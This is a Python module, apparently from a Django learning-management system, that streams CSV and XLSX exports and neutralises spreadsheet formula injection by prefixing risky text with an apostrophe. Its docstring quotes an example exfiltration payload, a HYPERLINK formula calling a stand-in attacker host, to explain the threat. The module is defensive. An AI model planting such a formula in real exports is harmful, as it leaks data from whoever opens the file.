"""Streamed CSV and XLSX exports with spreadsheet formula injection neutralised.

This module is deliberately *pure*: it knows nothing about models or querysets.
Callers hand it a header and an iterable of rows (typically a generator over
``QuerySet.values_list(...).iterator()``) and get back an iterator of ``bytes``
chunks, which :func:`streaming_response` wraps in a ``StreamingHttpResponse``.

Formula injection ("CSV injection", OWASP)
------------------------------------------
A spreadsheet application evaluates a cell whose text starts with ``=``,
``+``, ``-`` or ``@`` (and, depending on the program, a leading tab or
carriage return, or such a character after leading whitespace) as a formula,
so a learner named ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` could
exfiltrate data from an administrator's export.  :func:`safe_cell` prefixes
such *text* with an apostrophe, the OWASP recommendation, which spreadsheet
programs display as text and never evaluate.  Every cell of both formats goes
through it, and XLSX text cells are additionally stored with the string data
type, so the file never contains a formula.

Decisions (see :func:`safe_cell`)
---------------------------------
* ``int``/``float``/``Decimal`` values stay numbers, so ``-5`` (a number) is
  exported as ``-5`` and sorts/sums in the spreadsheet.  Text that merely looks
  like a number (``"-5"`` as ``str``) is still text and *is* prefixed: the
  module cannot tell a harmless ``"-5"`` from ``"-5+HYPERLINK(...)"`` without
  guessing, and callers who want a number should pass a number.
* ``bool`` becomes ``"yes"``/``"no"`` — fixed, untranslated strings, so an
  export reads the same whatever the requesting user's language is (callers
  who want translated labels pass the label instead).
* ``date``/``datetime``/``time`` become ISO 8601 text (aware datetimes keep
  their UTC offset; converting to local time is the caller's job).
* ``None`` becomes an empty cell.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import itertools
import math
import os
import re
import tempfile
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import IO, Any
from urllib.parse import quote

from django.http import StreamingHttpResponse

__all__ = [
    "CHUNK_SIZE",
    "CSV_CONTENT_TYPE",
    "XLSX_CONTENT_TYPE",
    "csv_rows",
    "safe_cell",
    "streaming_response",
    "xlsx_stream",
]

#: Target size of each yielded chunk (bytes; CSV chunks may exceed it by one row).
CHUNK_SIZE = 64 * 1024

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: Characters that make a spreadsheet treat text as a formula (OWASP list), plus
#: their full-width forms, which some East-Asian Excel set-ups normalise.
_FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

#: Tab and carriage return are whitespace themselves, so text is also prefixed
#: when they occur anywhere in its leading whitespace.
_LEADING_CONTROL = ("\t", "\r")

#: Control characters an XLSX file cannot contain (same set as openpyxl's
#: ``ILLEGAL_CHARACTERS_RE``); they are dropped from XLSX text cells.
_XLSX_ILLEGAL_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

#: Excel's maximum number of characters in a cell.
_XLSX_MAX_CELL_CHARS = 32_767

#: Characters Excel forbids in a sheet title, and its maximum length.
_SHEET_TITLE_INVALID_RE = re.compile(r"[\\*?:/\[\]]")
_SHEET_TITLE_MAX = 31

#: Rows sampled (and held in memory) to size the XLSX columns.
_WIDTH_SAMPLE_ROWS = 100
_MIN_COLUMN_WIDTH = 8
_MAX_COLUMN_WIDTH = 60

CellValue = str | int | float | Decimal | None


def _neutralise_text(text: str) -> str:
    """Prefix ``text`` with an apostrophe if a spreadsheet could run it as a formula."""
    stripped = text.lstrip()
    leading = text[: len(text) - len(stripped)]
    if stripped[:1] in _FORMULA_TRIGGERS or any(ch in leading for ch in _LEADING_CONTROL):
        return "'" + text
    return text


def safe_cell(value: Any) -> CellValue:
    """Return ``value`` as a spreadsheet cell value that cannot be run as a formula.

    * ``None`` → ``""`` (an empty cell).
    * ``bool`` → ``"yes"`` / ``"no"`` (untranslated on purpose, see module doc).
    * ``int``, ``float`` and ``Decimal`` (but not ``bool``) are returned
      unchanged — numbers, negative ones included, are never mangled.
      Non-finite values (NaN, ±infinity), which XLSX cannot store, are treated
      as the text ``"nan"``/``"inf"``/``"-inf"`` (the last one gets prefixed).
    * ``datetime``/``date``/``time`` → ISO 8601 text.
    * Anything else is converted with ``str()`` (lazy translation strings,
      UUIDs, …) and, when it starts with ``=``, ``+``, ``-``, ``@``, a tab or a
      carriage return — also after leading whitespace — it gets a leading
      ``'``.  Text that looks like a number (``"-5"``) is prefixed too: it is
      text, and only the caller knows whether it is harmless.

    The return annotation also admits ``Decimal`` because decimals stay exact
    numbers instead of being rounded through ``float``.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal):
        return value if value.is_finite() else _neutralise_text(str(value).lower())
    if isinstance(value, float):
        return value if math.isfinite(value) else _neutralise_text(str(value))
    if isinstance(value, dt.date | dt.time):  # datetime is a date subclass
        return value.isoformat()
    return _neutralise_text(str(value))


# --------------------------------------------------------------------------- CSV


def csv_rows(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[bytes]:
    """Yield a UTF-8 CSV document in chunks of about :data:`CHUNK_SIZE` bytes.

    The first chunk starts with a UTF-8 byte-order mark: without it Excel opens
    a CSV file in the system's legacy code page and shows "AdministraciÃ³n"
    instead of "Administración"; LibreOffice, pandas (``encoding="utf-8-sig"``)
    and Python's ``csv`` with ``utf-8-sig`` all accept it.  Lines end with
    ``\\r\\n`` (RFC 4180); every cell, header included, goes through
    :func:`safe_cell`.

    ``rows`` is consumed lazily, one row at a time, while the caller iterates,
    so memory stays flat whatever the number of rows (only one chunk is held).
    The header is written even when there are no rows.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write("\ufeff")
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
        # One character is at least one byte, so this yields at least
        # CHUNK_SIZE bytes; tell() is the cheap way to measure a StringIO.
        if buffer.tell() >= CHUNK_SIZE:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue().encode("utf-8")


# -------------------------------------------------------------------------- XLSX


def _sheet_title(title: str) -> str:
    """Return ``title`` made acceptable to Excel (no ``\\*?:/[]``, ≤ 31 chars)."""
    cleaned = _SHEET_TITLE_INVALID_RE.sub(" ", _XLSX_ILLEGAL_RE.sub("", title))
    cleaned = cleaned.strip().strip("'")[:_SHEET_TITLE_MAX].strip()
    return cleaned or "Sheet1"


def _xlsx_text(value: str) -> str:
    """Drop the control characters XLSX cannot hold and clip to Excel's cell limit."""
    return _XLSX_ILLEGAL_RE.sub("", value)[:_XLSX_MAX_CELL_CHARS]


def _display_width(value: CellValue) -> int:
    """Approximate width (in characters) of a cell value for column sizing."""
    if value is None:
        return 0
    text = str(value)
    return max((len(line) for line in text.splitlines()), default=0)


def _xlsx_cells(ws: Any, values: Sequence[CellValue], *, bold: Any = None) -> list[Any]:
    """Turn already-``safe_cell``-ed values into write-only cells.

    Text becomes a cell whose data type is forced to ``"s"`` (string):
    openpyxl would otherwise turn text starting with ``=`` into a formula and
    ``#N/A``-like text into an error cell.  Numbers are passed through as plain
    values and empty strings as ``None`` (no cell written).
    """
    from openpyxl.cell import WriteOnlyCell

    out: list[Any] = []
    for value in values:
        if isinstance(value, str):
            if not value and bold is None:
                out.append(None)
                continue
            cell = WriteOnlyCell(ws, _xlsx_text(value))
            cell.data_type = "s"
        else:
            if bold is None:
                out.append(value)
                continue
            cell = WriteOnlyCell(ws, value)
        if bold is not None:
            cell.font = bold
        out.append(cell)
    return out


def _cleanup_write_only_sheet(ws: Any) -> None:
    """Remove the temporary file of a write-only sheet that was never saved.

    openpyxl only deletes it on a successful save (or at interpreter exit),
    so an exception from the ``rows`` iterable would otherwise leak it on a
    long-running server.
    """
    writer = getattr(ws, "_writer", None)
    path = getattr(writer, "out", None)
    if not isinstance(path, str):
        return
    with contextlib.suppress(Exception):  # best effort: the file is removed below
        writer.close()
    with contextlib.suppress(FileNotFoundError):
        os.remove(path)
    # openpyxl also remembers the path for its own clean-up at interpreter exit.
    with contextlib.suppress(ImportError, ValueError):
        from openpyxl.worksheet._writer import ALL_TEMP_FILES

        ALL_TEMP_FILES.remove(path)


def xlsx_stream(
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    sheet_title: str,
    chunk_size: int = CHUNK_SIZE,
) -> Iterator[bytes]:
    """Yield an XLSX workbook with one sheet, in chunks of ``chunk_size`` bytes.

    The workbook is built with openpyxl in write-only mode — rows are streamed
    to a temporary file by openpyxl, and the zipped workbook is written to an
    anonymous temporary file (not memory), which is then read back in chunks
    and deleted when the generator finishes or is closed.  Because a ZIP file
    can only be finished once every row is known, the *first* chunk is produced
    only after ``rows`` has been fully consumed; memory nevertheless stays flat.

    * Every cell goes through :func:`safe_cell`; text cells are stored with the
      string data type, so no cell is ever a formula (or an error value).
    * Control characters XLSX cannot contain are dropped from text, and text is
      clipped to Excel's 32,767-character cell limit.  (A carriage return is
      written as a character reference, so ``"\r"`` survives.)
    * The header row is bold and frozen; column widths are estimated from the
      header and the first 100 rows (between 8 and 60 characters).
    * ``sheet_title`` is cleaned of characters Excel forbids and cut to 31
      characters.
    """
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    header_values = [safe_cell(cell) for cell in header]
    row_iter = iter(rows)
    sample = [
        [safe_cell(cell) for cell in row] for row in itertools.islice(row_iter, _WIDTH_SAMPLE_ROWS)
    ]

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=_sheet_title(sheet_title))
    try:
        column_count = max([len(header_values), *(len(row) for row in sample)])
        for index in range(column_count):
            width = max(
                (
                    _display_width(row[index])
                    for row in [header_values, *sample]
                    if index < len(row)
                ),
                default=0,
            )
            width = min(max(width + 2, _MIN_COLUMN_WIDTH), _MAX_COLUMN_WIDTH)
            ws.column_dimensions[get_column_letter(index + 1)].width = width
        ws.freeze_panes = "A2"

        ws.append(_xlsx_cells(ws, header_values, bold=Font(bold=True)))
        for values in sample:
            ws.append(_xlsx_cells(ws, values))
        del sample
        for row in row_iter:
            ws.append(_xlsx_cells(ws, [safe_cell(cell) for cell in row]))

        with tempfile.TemporaryFile(prefix="lms-export-", suffix=".xlsx") as out:
            wb.save(out)
            out.seek(0)
            yield from _read_chunks(out, chunk_size)
    finally:
        _cleanup_write_only_sheet(ws)


def _read_chunks(stream: IO[bytes], chunk_size: int) -> Iterator[bytes]:
    """Yield ``stream`` in chunks of at most ``chunk_size`` bytes."""
    while chunk := stream.read(chunk_size):
        yield chunk


# ---------------------------------------------------------------------- Response


def _ascii_filename(filename: str) -> str:
    """Return an ASCII approximation of ``filename`` for the legacy ``filename=``."""
    decomposed = unicodedata.normalize("NFKD", filename)
    ascii_name = decomposed.encode("ascii", "ignore").decode("ascii")
    ascii_name = re.sub(r"[^A-Za-z0-9 ._()\-]", "_", ascii_name).strip(" .")
    return ascii_name or "export"


def _content_disposition(filename: str) -> str:
    """Build an RFC 6266 ``attachment`` header value for ``filename``.

    Path separators, quotes and control characters are removed first.  An
    ASCII name is sent as ``filename="…"``; otherwise an ASCII fallback
    (accents stripped) is sent as ``filename`` and the exact name, UTF-8 and
    percent-encoded (RFC 5987), as ``filename*``, which browsers prefer.
    """
    cleaned = "".join(
        ch for ch in filename if unicodedata.category(ch)[0] != "C" and ch not in '"\\/'
    ).strip()
    cleaned = cleaned or "export"
    if cleaned.isascii():
        return f'attachment; filename="{cleaned}"'
    return (
        f'attachment; filename="{_ascii_filename(cleaned)}"; '
        f"filename*=UTF-8''{quote(cleaned, safe='')}"
    )


def streaming_response(
    chunks: Iterable[bytes], *, filename: str, content_type: str
) -> StreamingHttpResponse:
    """Wrap ``chunks`` in a downloadable, uncached ``StreamingHttpResponse``.

    Sets ``Content-Disposition: attachment`` (with an RFC 6266 ``filename*``
    for non-ASCII names such as "Administración Perú.csv") and
    ``Cache-Control: no-store``, since exports carry personal data.  Django
    closes ``chunks`` when the response is closed, so an abandoned XLSX
    download still deletes its temporary file.
    """
    response = StreamingHttpResponse(chunks, content_type=content_type)
    response["Content-Disposition"] = _content_disposition(filename)
    response["Cache-Control"] = "no-store"
    return response
